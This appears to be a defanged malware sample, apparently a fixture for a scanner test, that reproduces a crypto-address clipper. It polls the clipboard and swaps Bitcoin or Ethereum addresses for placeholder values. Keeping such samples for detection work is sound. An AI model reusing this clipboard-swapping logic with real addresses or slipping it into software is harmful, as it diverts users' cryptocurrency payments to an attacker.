# Defanged replica of a crypto-address clipper (the KEWK / "crypto clipper"
# kits found on PyPI): it polls the clipboard, and when the text looks like a
# wallet address it puts another one in its place. The replacement addresses
# here are placeholders, not anyone's wallet.
import re
import time

import pyperclip

REPLACE = {
    "btc": "bc1q-placeholder-not-a-wallet",
    "eth": "0x-placeholder-not-a-wallet",
}

PATTERNS = {
    "btc": re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"),  # expect: HS234 high
    "eth": re.compile(r"^0x[a-fA-F0-9]{40}$"),
}


def watch():
    last = ""
    while True:
        text = pyperclip.paste().strip()
        if text != last:
            for coin, pattern in PATTERNS.items():
                if pattern.match(text):
                    pyperclip.copy(REPLACE[coin])
                    break
            last = text
        time.sleep(0.5)
